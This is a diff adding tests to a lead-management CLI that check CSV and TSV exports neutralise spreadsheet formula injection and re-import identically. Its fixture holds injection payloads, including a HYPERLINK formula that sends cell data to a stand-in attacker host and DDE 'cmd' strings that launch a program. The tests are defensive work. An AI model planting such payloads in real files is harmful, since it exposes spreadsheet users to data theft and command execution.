@@ -134,3 +134,60 @@ def test_a_bad_filter_fails_before_any_output(store_uri: str, args: tuple[str, .
     result = invoke("--db", store_uri, "export", *args)
     assert result.code == 2
     assert (result.stdout, result.stderr.count("\n")) == ("", 1)  # no lone "[" or header row for a pipe
+
+
+# -- spreadsheet formula injection (issue 14 item 5) ----------------------------------------------
+
+HOSTILE = (
+    ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "h1@example.com", ["--company", "+cmd|' /C calc'!A0"]),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "h2@example.com", ["--notes", "-2+3+cmd|' /C calc'!A0", "--tag", "=evil", "--tag", "ok"]),
+    ("'=already quoted", "h3@example.com", ["--phone", "+1 555 0100", "--owner", "''+twice", "--source", "-"]),
+    ("Plain Name", "h4@example.com", ["--status", "=Hot", "--field", "score=-5", "--field", "note=@here", "--value", "1500"]),
+)
+
+
+def seed_hostile(uri: str) -> None:
+    for name, email, extra in HOSTILE:
+        result = invoke("--db", uri, "add", "--name", name, "--email", email, *extra)
+        assert result.code == 0, result.stderr
+
+
+@pytest.mark.parametrize("fmt", ["csv", "tsv"])
+def test_csv_and_tsv_exports_neutralise_formulas_and_reimport_identically(store_uri: str, tmp_path: Path, fmt: str) -> None:
+    source = str(tmp_path / "source.db")
+    seed_hostile(source)
+    dump = tmp_path / f"leads.{fmt}"
+    assert invoke("--db", source, "export", "-o", fmt, "--file", str(dump)).code == 0
+
+    with open(dump, newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f, delimiter="\t" if fmt == "tsv" else ","))
+    cells = [value for row in rows for key, value in row.items() if key not in ("stage_history", "fields", "activities")]
+    # What a spreadsheet would run: a cell starting with = + - @ (tab/CR), or quotes then one
+    runnable = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert runnable == []
+    by_email = {row["email"]: row for row in rows}
+    assert by_email["h1@example.com"]["name"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+    assert by_email["h1@example.com"]["company"] == "'+cmd|' /C calc'!A0"
+    assert by_email["h2@example.com"]["tags"] == "'=evil, ok"
+    assert by_email["h3@example.com"]["name"] == "''=already quoted"  # a quote of its own is kept apart
+    assert by_email["h3@example.com"]["source"] == "'-"
+    assert by_email["h4@example.com"]["value"] == "1500"
+
+    result = invoke("--db", store_uri, "import", str(dump))
+
+    assert result.code == 0, result.stderr
+    assert exported(store_uri) == exported(source)  # the identical leads, ids and all
+    again = invoke("--db", store_uri, "import", str(dump), "--upsert")
+    assert "0 inserted, 0 updated, 4 unchanged, 0 rejected" in again.stderr
+
+
+def test_list_as_csv_is_neutralised_too_and_a_plain_number_is_left_a_number() -> None:
+    assert invoke("add", "--name", "=1+1", "--email", "n@example.com", "--value", "250").code == 0
+    out = invoke("list", "-o", "csv", "--fields", "name,value").stdout
+    assert out == "name,value\n'=1+1,250\n"
+    from leadcli.domain.text import from_spreadsheet_safe, spreadsheet_safe
+
+    for number in ("-5", "+1.5", "-1e3", ".5"):
+        assert spreadsheet_safe(number) == number  # spreadsheets read it as a number: not a formula
+    for text in ("-5 apples", "-", "+", "=", "@", "\t-x", "'", "''=", "x=1"):
+        assert from_spreadsheet_safe(spreadsheet_safe(text)) == text
